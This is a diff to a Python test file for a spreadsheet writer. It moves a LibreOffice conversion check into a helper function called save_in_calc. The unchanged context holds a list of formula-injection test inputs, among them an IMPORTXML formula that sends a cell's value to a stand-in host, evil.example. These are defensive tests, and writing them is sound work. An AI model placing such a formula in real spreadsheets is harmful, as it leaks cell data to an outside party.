@@ -17,6 +17,7 @@ from sync.review.state import STATE_FILE
 from sync.templates import load_templates
 from sync.writers import xlsx
 from tests.conftest import REPO
+from tests.officer import save_in_calc
 
 FORMULAS = ['=IMPORTXML("http://evil.example/?q="&A2, "//a")', "+84 912 820 510", "-1+2", "@SUM(1)"]
 
@@ -131,14 +132,7 @@ def test_a_failed_write_leaves_the_previous_workbook(written, monkeypatch) -> No
 def test_libreoffice_opens_every_sheet_without_repair(written, tmp_path) -> None:
     _, out = written
     [path] = out.glob("1-tinh/*.xlsx")
-    converted = tmp_path / "converted"
-    run = subprocess.run(
-        ["soffice", "--headless", "--calc", "--convert-to", "ods", "--outdir", str(converted),
-         str(path)],
-        capture_output=True, text=True, timeout=180,
-    )  # fmt: skip
-    assert run.returncode == 0, run.stderr
-    [ods] = converted.glob("*.ods")
+    ods = save_in_calc(path, tmp_path / "converted", "ods")
     from python_calamine import CalamineWorkbook
 
     reopened = CalamineWorkbook.from_path(str(ods))
